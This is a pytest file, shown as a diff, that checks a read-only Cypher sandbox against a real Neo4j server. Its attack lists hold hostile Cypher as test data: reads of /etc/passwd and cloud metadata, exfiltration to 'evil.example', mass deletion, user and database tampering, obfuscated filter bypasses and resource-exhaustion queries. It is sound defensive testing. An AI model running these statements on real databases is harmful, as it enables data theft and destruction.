@@ -1,0 +1,492 @@
+"""Cypher that a stranger typed, on a real Neo4j: what it may read, and that it neither harms nor leaves the graph."""
+
+import io
+import json
+import os
+import time
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+from neo4j import Driver, GraphDatabase
+
+from tests.docs.pages import ROOT
+from tests.neo4j_fixtures import neo4j_needed
+from tests.neo4j_server import DATABASE, LTS, Neo4jServer, start_server
+from waygraph.api.cli.app import main
+from waygraph.ingest.sources import read_path
+from waygraph.ingest.sync import sync
+from waygraph.registry import Registry, Settings
+from waygraph.registry.errors import (
+    CypherError,
+    CypherFailed,
+    CypherLimit,
+    CypherRefused,
+    RegistryError,
+    RegistryNotFound,
+    ServerRefused,
+    ServerUnavailable,
+)
+from waygraph.registry.graph import sandbox, server_cypher
+from waygraph.registry.graph.neo4j import Neo4jEngine
+from waygraph.registry.graph.server_location import ServerLocation
+
+PASSWORD = "correct-horse-battery"  # noqa: S105 - of a server that lives as long as these tests
+SETTINGS = Settings(neo4j_password=PASSWORD, cypher_timeout_s=20.0, cypher_memory_mib=256)
+HURRIED = replace(SETTINGS, cypher_timeout_s=3.0)
+"""Enough to start a worker on a busy machine."""
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Neo4jServer]:
+    """One of our own: these tests may bring it down."""
+    with neo4j_needed(), start_server(LTS, tmp_path_factory.mktemp("neo4j"), password=PASSWORD) as started:
+        yield started
+
+
+@pytest.fixture(scope="module")
+def driver(server: Neo4jServer) -> Iterator[Driver]:
+    with GraphDatabase.driver(server.uri, auth=server.auth) as opened:
+        yield opened
+
+
+@pytest.fixture(scope="module")
+def registry(server: Neo4jServer) -> Iterator[Registry]:
+    with opened(server) as filled:
+        with pytest.raises(RegistryNotFound):  # nobody reads through us what is no registry
+            filled.cypher("RETURN 1")
+        for manifest in read_path(str(ROOT / "examples" / "catalog"), Settings()):
+            sync(filled, replace(manifest, source="catalog"), texts="plain")
+        yield filled
+
+
+@pytest.fixture(scope="module")
+def hurried(server: Neo4jServer, registry: Registry) -> Iterator[Registry]:
+    """The same registry, with little time for a statement."""
+    with opened(server, HURRIED) as other:
+        yield other
+
+
+def opened(server: Neo4jServer, settings: Settings = SETTINGS) -> Registry:
+    return Registry.open(server.uri, embedder="none", settings=settings, environ={})
+
+
+@pytest.fixture(scope="module")
+def untouched(driver: Driver, registry: Registry) -> list[Any]:
+    """Everything as it is before the first attack."""
+    return everything(driver)
+
+
+def everything(driver: Driver) -> list[Any]:
+    return [
+        [record.values() for record in driver.execute_query(statement, database_=database).records]
+        for statement, database in (
+            ("MATCH (n) RETURN elementId(n) AS id, labels(n), properties(n) ORDER BY id", DATABASE),
+            ("MATCH ()-[r]->() RETURN elementId(r) AS id, type(r), properties(r) ORDER BY id", DATABASE),
+            ("SHOW INDEXES YIELD name, labelsOrTypes, properties ORDER BY name", DATABASE),
+            ("SHOW CONSTRAINTS YIELD name ORDER BY name", DATABASE),
+            ("SHOW USERS YIELD user, suspended", "system"),
+            ("SHOW DATABASES YIELD name, currentStatus ORDER BY name", "system"),
+        )
+    ]
+
+
+def error_of(registry: Registry, statement: str) -> CypherError:
+    """How the statement fails, in one line that holds no secret and no address."""
+    with pytest.raises(CypherError) as caught:
+        registry.cypher(statement)
+    told = str(caught.value)
+    port = registry.status().location.rpartition(":")[2].partition("/")[0]
+    assert not [secret for secret in (PASSWORD, "127.0.0.1", port) if secret in told]
+    assert len(told.splitlines()) == 1
+    return caught.value
+
+
+# --- what it may ---
+
+READS: list[tuple[str, object]] = [
+    ("MATCH (a:Agent)-[:OWNS]->(t:Tool) WHERE a.id = $agent RETURN count(t)", 4),
+    ("MATCH (a:Agent {id: $agent}) RETURN a {.id, n: size([(a)-[:OWNS]->(t) | t.id])}", {"id": "bureau-fx", "n": 4}),
+    ("MATCH (a:Agent|Source)((x)-[:CLAIMS]->(y)){0,1}(z) RETURN count(a)", 73),
+    ("MATCH (a:Agent {id: $agent}) CALL (a) { MATCH (a)-->(t) RETURN count(t) AS n } RETURN n", 4),
+    ("CALL db.labels() YIELD label WITH label WHERE label = 'Tool' RETURN label", "Tool"),
+    ("CALL `db`.`relationshipTypes`() YIELD relationshipType AS r WITH r ORDER BY r RETURN collect(r)[1]", "OWNS"),
+    ("CALL db.index.fulltext.queryNodes('name', 'bureaufx') YIELD node RETURN node.id", "bureau-fx"),
+    ("CALL db.schema.visualization() YIELD nodes RETURN size(nodes) > 4", True),
+    (
+        "RETURN [date.truncate('month', date('2026-03-02')), duration('P1DT1S'), vector.similarity.cosine([1.0], [1.0])]",
+        ["2026-03-01", {"months": 0, "days": 1, "nanos": 1_000_000_000}, 1.0],
+    ),
+    (
+        "RETURN [datetime('2026-01-01T10:00:00Z'), time('10:00'), point({x: 1, y: 2}), 1.0 / 0.0, 0.0 / 0.0]",
+        ["2026-01-01T10:00:00+00:00", "10:00:00+00:00", [1.0, 2.0], "Infinity", "NaN"],
+    ),
+    ("RETURN 'LOAD CSV; CREATE (n) // apoc.load.json()'", "LOAD CSV; CREATE (n) // apoc.load.json()"),
+]
+
+
+@pytest.mark.parametrize(("statement", "first"), READS)
+def test_a_read_gives_its_rows(statement: str, first: object, registry: Registry) -> None:
+    """What only reads is answered as the server answers it, in JSON's types."""
+    result = registry.cypher(statement, {"agent": "bureau-fx"})
+    assert result.rows[0][0] == first
+
+
+def test_nodes_edges_and_paths_are_told_as_of_a_file(registry: Registry, tmp_path: Path) -> None:
+    """The same statement on both engines gives the same maps, but for ids and what only a server keeps."""
+    statement = "MATCH p = (a:Agent {id: 'bureau-fx'})-[r:OWNS]->(t:Tool {name: 'list'}) RETURN a, r, p"
+    with Registry.open(tmp_path / "r.grafeo", embedder="none", environ={}) as embedded:
+        for manifest in read_path(str(ROOT / "examples" / "catalog"), Settings()):
+            sync(embedded, manifest)
+        ours, theirs = (json.loads(json.dumps(one.cypher(statement).rows)) for one in (embedded, registry))
+    agent, edge, _ = theirs[0]
+    assert edge["source"] == agent["id"]
+    assert without_ids(ours) == without_ids(theirs)
+
+
+def without_ids(value: Any) -> Any:
+    """Entities without their ids, and without what only a server keeps."""
+    if isinstance(value, list):
+        return [without_ids(part) for part in value]
+    if not isinstance(value, dict):
+        return value
+    kept = {key: part for key, part in value.items() if not key.startswith("index_")}
+    if "properties" in kept:
+        kept = {key: part for key, part in kept.items() if key not in ("id", "source", "target")}
+        kept["labels"] = [label for label in kept.get("labels", ()) if label not in ("Capability", "Apart")]
+    return {key: without_ids(part) for key, part in kept.items()}
+
+
+def test_rows_beyond_the_limit_are_neither_told_nor_made(server: Neo4jServer, registry: Registry) -> None:
+    """At most `cypher_max_rows` rows come back, at once, and `truncated` says whether there were more."""
+    with opened(server, replace(SETTINGS, cypher_max_rows=4)) as short:
+        whole = short.cypher("UNWIND range(1, 4) AS x RETURN x")
+        cut = short.cypher("UNWIND range(1, 1000000000000) AS x RETURN x, 'more'")
+    assert (whole.rows, whole.truncated) == (((1,), (2,), (3,), (4,)), False)
+    assert (cut.columns, len(cut.rows), cut.truncated) == (("x", "'more'"), 4, True)
+    assert cut.elapsed_ms < 5_000
+
+
+def test_an_answer_beyond_sixteen_mebibytes_is_cut_or_refused(registry: Registry) -> None:
+    """Rows stop where the answer grows too large; one row too large is an error that says so."""
+    megabyte = "reduce(s = 'x', i IN range(1, 20) | s + s)"
+    cut = registry.cypher(f"UNWIND range(1, 40) AS i RETURN {megabyte} AS s")
+    assert (len(cut.rows), cut.truncated) == (15, True)
+    with pytest.raises(CypherLimit, match="larger than 16 MiB"):
+        registry.cypher(f"WITH {megabyte} AS s RETURN [i IN range(1, 20) | s] AS large")
+
+
+@pytest.mark.parametrize(
+    ("statement", "message"),
+    [
+        ("MATCH (n)\nRETURN n.x +", "Invalid input '': expected an expression (line 2, column 13)"),
+        ("RETURN sise('x')", "Unknown function 'sise' (line 1, column 8)"),
+        ("RETURN $absent", "Expected parameter(s): absent"),
+        ("RETURN 1 / 0", "/ by zero"),
+        ("RETURN datetime({year: 99999})", "Record contains broken data at 0 ('datetime({year: 99999})')"),
+    ],
+)
+def test_the_servers_reason_is_told_in_one_line(statement: str, message: str, registry: Registry) -> None:
+    """A failure says what the server said and where, as counted in the statement that was typed."""
+    assert str(error_of(registry, statement)) == message
+
+
+def test_parameters_must_be_json_of_a_bounded_size(registry: Registry) -> None:
+    """What JSON cannot carry, and too much of it, is refused; what the server cannot take fails."""
+    for value in ({1, 2}, "x" * 5_000_000):
+        with pytest.raises(CypherRefused, match="parameters"):
+            registry.cypher("RETURN $x", {"x": value})
+    with pytest.raises(CypherFailed, match="too large"):
+        registry.cypher("RETURN $x", {"x": 2**70})
+
+
+# --- attacks ---
+
+WRITES = [
+    "CREATE (:Agent {id: 'evil'})",
+    "MATCH (a:Agent) SET a.name = 'evil'",
+    "MATCH (a:Agent) DETACH DELETE a",
+    "MATCH (a:Agent) REMOVE a:Agent",
+    "MERGE (a:Agent {id: 'evil'}) ON CREATE SET a.x = 1",
+    "MATCH (a:Agent) FOREACH (x IN [1] | SET a.x = x)",
+    "CALL { CREATE (n:Evil) RETURN n } RETURN n",
+    "MATCH (a:Agent) CALL (a) { SET a.x = 1 } RETURN a",
+    "MATCH (a:Agent) CALL { WITH a DETACH DELETE a } IN TRANSACTIONS OF 10 ROWS",
+    "MATCH (a:Agent) CALL (a) { DETACH DELETE a } IN 3 CONCURRENT TRANSACTIONS",
+    "RETURN COLLECT { CREATE (n:Evil) RETURN n }",
+    "MATCH (a)((x)-[:OWNS]->(y))+ SET a.x = 1",
+    "CYPHER 25 WHEN true THEN { CREATE (:Evil) }",
+    "MATCH (n) LET x = 1 INSERT (:Evil)",
+    "USE neo4j CREATE (:Evil)",
+    "PROFILE CREATE (:Evil)",
+    "EXPLAIN CREATE (:Evil)",
+    r"\u0043REATE (:Evil)",
+    "MATCH (n) /* /* */ SET n.x = 1 // */ RETURN n",
+    "MATCH (n {id: '\\u0027}) DETACH DELETE n //'}) RETURN n",
+    "MATCH (n:$(CASE WHEN true THEN 'Agent' END)) DELETE n",
+    "CREATE INDEX evil FOR (n:Agent) ON (n.name)",
+    "DROP INDEX agent_text",
+    "DROP CONSTRAINT agent_id",
+    "CALL db.createLabel('Evil')",
+    "CALL db.create.setNodeVectorProperty(null, 'embedding', [1.0])",
+    "CALL apoc.cypher.runWrite('CREATE (:Evil)', {})",
+    "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {})",
+    "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n) RETURN n', {})",
+    "CREATE USER evil SET PASSWORD 'evil-evil'",
+    "ALTER CURRENT USER SET PASSWORD FROM 'x' TO 'evil-evil'",
+    "DROP DATABASE neo4j",
+    "STOP DATABASE neo4j",
+    "MATCH (n) RETURN n; MATCH (n) DETACH DELETE n",
+]
+
+REACHES_OUT = [
+    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
+    "load/**/csv FROM 'file:///etc/passwd' AS line RETURN line",
+    "LOAD CSV WITH HEADERS FROM 'http://169.254.169.254/latest/meta-data' AS line RETURN line",
+    "CALL { LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line } RETURN line",
+    "RETURN 1 AS line UNION LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
+    "MATCH (a:Agent) WITH collect(a.transport) AS all LOAD CSV FROM 'http://evil.example/?' + all[0] AS x RETURN x",
+    "CALL apoc.load.json('http://evil.example') YIELD value RETURN value",
+    "RETURN apoc.load.json('http://evil.example')",
+    "RETURN `apoc`.`load`.`json`('http://evil.example')",
+    "RETURN `apoc.load.json`('http://evil.example')",
+    "RETURN apoc /* . */ . load . json ('http://evil.example')",
+    "RETURN `\\u0061poc`.load.json('http://evil.example')",
+    "MATCH (a:Agent) WHERE genai.vector.encode(a.transport, 'OpenAI', {token: 'x'}) IS NOT NULL RETURN a",
+    "RETURN ai.text.embed('x', 'OpenAI', {})",
+    "CALL genai.vector.encodeBatch(['x'], 'OpenAI', {}) YIELD vector RETURN vector",
+    "CALL apoc.export.csv.all('/tmp/evil.csv', {})",
+    "RETURN graph.byName('system')",
+    "RETURN abac.oidc.user_attribute('sub')",
+]
+
+SPIES = [
+    "CALL dbms.listConfig() YIELD name, value RETURN name, value",
+    "CALL dbms.listConnections()",
+    "CALL dbms.components()",
+    "CALL dbms.queryJmx('*:*')",
+    "CALL db.info()",
+    "CALL db.clearQueryCaches()",
+    "CALL db.awaitIndexes(300)",
+    "CALL tx.setMetaData({waygraph: 'no'})",
+    "CALL `db.labels`()",
+    "SHOW TRANSACTIONS",
+    "SHOW USERS",
+    "SHOW SETTINGS",
+    "TERMINATE TRANSACTION 'neo4j-transaction-1'",
+    "USE system SHOW USERS",
+]
+
+
+@pytest.mark.parametrize("attack", [*WRITES, *REACHES_OUT, *SPIES])
+def test_what_is_more_than_a_read_is_refused_before_the_server_sees_it(
+    attack: str, registry: Registry, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whatever writes, reads files, asks the network or looks at the server is refused, and no worker is started."""
+    monkeypatch.setattr(server_cypher, "start_worker", lambda *_: pytest.fail("a worker was started"))
+    assert isinstance(error_of(registry, attack), CypherRefused)
+
+
+def fooled(monkeypatch: pytest.MonkeyPatch) -> None:
+    """As if the first line had let everything pass."""
+    monkeypatch.setattr(server_cypher, "check_read_only", lambda *_, **__: None)
+
+
+@pytest.mark.parametrize(
+    ("attack", "reason"),
+    [
+        ("LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line", "more than read: LoadCSV"),
+        ("CALL { LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line } RETURN line", "more than read: LoadCSV"),
+        ("CREATE (:Evil)", "more than read"),
+        ("MATCH (a:Agent) CALL (a) { SET a.x = 1 } RETURN a", "more than read"),
+        ("MATCH (a:Agent) CALL (a) { RETURN 1 AS x } IN TRANSACTIONS RETURN x", "more than read: Transaction"),
+        ("CREATE INDEX evil FOR (n:Agent) ON (n.name)", "more than read"),
+        ("CALL dbms.listConfig() YIELD name RETURN name", "more than read"),
+        ("CALL db.awaitIndexes(300)", "more than read: ProcedureCall"),
+        ("SHOW TRANSACTIONS", "more than read: ShowTransactions"),
+    ],
+)
+@pytest.mark.usefixtures("untouched")
+def test_the_second_line_refuses_by_the_plan(
+    attack: str, reason: str, registry: Registry, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Were the first line fooled, the server's own plan tells, and nothing of the statement runs."""
+    fooled(monkeypatch)
+    error = error_of(registry, attack)
+    assert isinstance(error, CypherRefused)
+    assert reason in str(error)
+
+
+@pytest.mark.parametrize("attack", ["CREATE (:Evil)", "DROP INDEX agent_text", "CALL db.createLabel('Evil')"])
+@pytest.mark.usefixtures("untouched")
+def test_the_third_line_is_the_servers(attack: str, server: Neo4jServer, registry: Registry) -> None:
+    """With both checks gone, the transaction still has no right to write."""
+    engine = Neo4jEngine.open(ServerLocation.parse(server.uri, DATABASE), SETTINGS)
+    with pytest.raises(RegistryError, match="read access mode"), engine.typed(5.0, {}) as transaction:
+        list(transaction.run(attack, {})[1])
+    engine.close()
+
+
+ENDLESS = {
+    "rows": "UNWIND range(1, 1000000000000) AS x RETURN count(x)",
+    "a product": "MATCH (a), (b), (c), (d), (e) WHERE a.id < b.id + c.id + d.id + e.id RETURN count(*)",
+    "a plan": "MATCH " + "-->".join(f"(a{number})" for number in range(400)) + " RETURN 1",
+    "brackets": "RETURN " + "(" * 9_000 + "1" + ")" * 9_000,
+}
+
+TOO_LARGE = {
+    "a list of rows": "UNWIND range(1, 1000000000) AS x RETURN collect([x, 'text'])",
+    "a text": "RETURN size(reduce(s = 'x', i IN range(1, 40) | s + s))",
+    "one row": "WITH 20000000 AS n RETURN range(1, n)",
+    "many rows": "MATCH (a), (b) RETURN collect([a, b]) AS x, collect([b, a]) AS y, [i IN range(1, 999999) | a.id]",
+    "lists in lists": "RETURN reduce(s = [], i IN range(1, 20000) | [s]) AS s",
+}
+
+
+@pytest.mark.parametrize("name", [*ENDLESS, *TOO_LARGE])
+@pytest.mark.usefixtures("untouched")
+def test_what_has_no_end_is_ended(name: str, hurried: Registry, registry: Registry) -> None:
+    """In time the asker gets one line that says why; no worker is left, and the server answers as before."""
+    started = time.monotonic()
+    error = error_of(hurried, (ENDLESS | TOO_LARGE)[name])
+    assert time.monotonic() - started < HURRIED.cypher_timeout_s + 4
+    assert isinstance(error, CypherLimit | CypherFailed)
+    assert workers() == []
+    assert eventually_answers(registry)
+
+
+@pytest.mark.parametrize(
+    "statement", ["RETURN reduce(s = 0, x IN range(1, 10000000000) | s + x)", "RETURN range(0, 0xFFFFFFFFF)"]
+)
+def test_a_list_that_is_plainly_too_long_is_refused(statement: str, registry: Registry) -> None:
+    """Neo4j cannot be stopped in an expression, so a long range may only come as rows."""
+    assert "behind UNWIND" in str(error_of(registry, statement))
+
+
+def workers() -> list[str]:
+    """Commands of the worker processes of these tests, where there is a /proc."""
+    found = []
+    for command in Path("/proc").glob("[0-9]*/cmdline"):
+        try:
+            text = command.read_bytes().decode(errors="replace")
+            parent = int(command.with_name("stat").read_text().rpartition(")")[2].split()[1])
+        except (OSError, ValueError):
+            continue
+        if "server_cypher_worker" in text and parent == os.getpid():
+            found.append(text)
+    return found
+
+
+def eventually_answers(registry: Registry) -> bool:
+    """Whether a plain statement is answered within 20 s: what was ended may take a moment to be gone."""
+    give_up = time.monotonic() + 20
+    while True:
+        try:
+            return registry.cypher("RETURN 1").rows == ((1,),)
+        except CypherLimit:
+            if time.monotonic() > give_up:
+                raise
+
+
+def test_the_graph_is_what_it_was_before_all_attacks(untouched: list[Any], driver: Driver) -> None:
+    """No node, edge, index, constraint, user or database has changed, come or gone."""
+    assert everything(driver) == untouched
+
+
+def test_what_the_server_cannot_stop_keeps_others_out(server: Neo4jServer, hurried: Registry) -> None:
+    """A statement that goes on in the server after its end: no other one is sent until it is gone."""
+    endless = "WITH 1000000000000 AS n RETURN reduce(s = 0, x IN range(1, n) | s + x)"
+    assert "ended after 3 s" in str(error_of(hurried, endless))
+    assert "still at work on the server" in str(error_of(hurried, "RETURN 1"))
+    server.kill()
+    with pytest.raises(ServerUnavailable) as caught:
+        hurried.cypher("RETURN 1")
+    assert PASSWORD not in str(caught.value)
+    server.restart()
+    assert eventually_answers(hurried)
+
+
+def sync_one(registry: Registry, folder: Path) -> None:
+    (folder / "one.yaml").write_text("waygraph: 1\nagents: [{id: one, name: One, description: The first.}]\n")
+    for manifest in read_path(str(folder / "one.yaml"), Settings()):
+        sync(registry, manifest)
+
+
+# --- the worker ---
+
+
+def test_the_worker_is_told_no_more_than_it_needs(registry: Registry, monkeypatch: pytest.MonkeyPatch) -> None:
+    """What it needs to reach the server comes on its standard input, not in its environment or its command line."""
+    monkeypatch.setenv("WAYGRAPH_SECRET", "hunter2")
+    seen: list[tuple[Path, dict[str, str]]] = []
+
+    def start(script: Path, environment: dict[str, str]) -> Any:
+        seen.append((script, environment))
+        return sandbox.start_worker(script, environment)
+
+    monkeypatch.setattr(server_cypher, "start_worker", start)
+    assert registry.cypher("RETURN 1").rows == ((1,),)
+    ((script, environment),) = seen
+    assert script.name == "server_cypher_worker.py"
+    assert set(environment) <= {
+        "TMPDIR", "MALLOC_ARENA_MAX", "RAYON_NUM_THREADS", "LD_LIBRARY_PATH", *server_cypher.CERTIFICATES,
+    }  # fmt: skip
+    assert not [value for value in environment.values() if value in ("hunter2", PASSWORD)]
+
+
+def test_the_memory_limit_is_the_settings(server: Neo4jServer, registry: Registry) -> None:
+    """A row that the worker has no room for ends it; the same row fits into more."""
+    statement = "WITH 900000 AS n RETURN size([1]), [x IN range(1, n) | 'a'] AS row"
+    with (
+        opened(server, replace(SETTINGS, cypher_memory_mib=8)) as narrow,
+        pytest.raises(CypherLimit, match="WAYGRAPH_CYPHER_MEMORY_MIB"),
+    ):
+        narrow.cypher(statement)
+    assert len(registry.cypher(statement).rows[0][1]) == 900_000  # type: ignore[arg-type]
+
+
+def test_a_statement_sees_what_was_just_written(server: Neo4jServer, registry: Registry, tmp_path: Path) -> None:
+    """The worker's own connection reads what this process has written."""
+    sync_one(registry, tmp_path)
+    assert registry.cypher("MATCH (a:Agent {id: 'one'}) RETURN a.name").rows == (("One",),)
+    registry.forget(str(tmp_path / "one.yaml"))
+    assert registry.cypher("MATCH (a:Agent {id: 'one'}) RETURN a.name").rows == ()
+
+
+def test_a_wrong_password_is_refused_and_not_told(server: Neo4jServer) -> None:
+    """The error is the one that every call gives."""
+    with pytest.raises(ServerRefused) as caught:
+        opened(server, replace(SETTINGS, neo4j_password="wrong-" + PASSWORD)).cypher("RETURN 1")
+    assert PASSWORD not in str(caught.value)
+
+
+# --- the command line ---
+
+
+def test_the_command_and_its_shell_ask_a_server(
+    server: Neo4jServer, registry: Registry, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """`waygraph cypher` prints rows of a server registry, and says in one line why a statement was refused."""
+    monkeypatch.setenv("WAYGRAPH_NEO4J_PASSWORD", PASSWORD)
+    asked = ["--registry", server.uri, "cypher"]
+    assert main([*asked, "MATCH (a:Agent) RETURN a.id AS id ORDER BY id LIMIT 3"]) == 0
+    assert capsys.readouterr().out.split() == ["id", "bazaar-lane", "bellringer-stocks", "bureau-fx"]
+    assert main([*asked, "--json", "--param", "n=2", "RETURN $n + 1 AS x"]) == 0
+    assert json.loads(capsys.readouterr().out)["rows"] == [[3]]
+    assert main([*asked, "MATCH (n) DETACH DELETE n"]) == 1
+    assert "DETACH is refused" in capsys.readouterr().err
+
+
+def test_the_shell_goes_on_after_an_error(
+    server: Neo4jServer, registry: Registry, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Statements from standard input run one after the other; a refused one is told, the next one answered."""
+    typed = ":param x=5\nLOAD CSV FROM 'x' AS y RETURN y;\nRETURN $x * 2 AS ten;\n"
+    monkeypatch.setattr("sys.stdin", io.StringIO(typed))
+    monkeypatch.setenv("WAYGRAPH_NEO4J_PASSWORD", PASSWORD)
+    assert main(["--registry", server.uri, "cypher"]) == 1
+    told = capsys.readouterr()
+    assert told.out.split() == ["ten", "10"]
+    assert "LOAD" in told.err
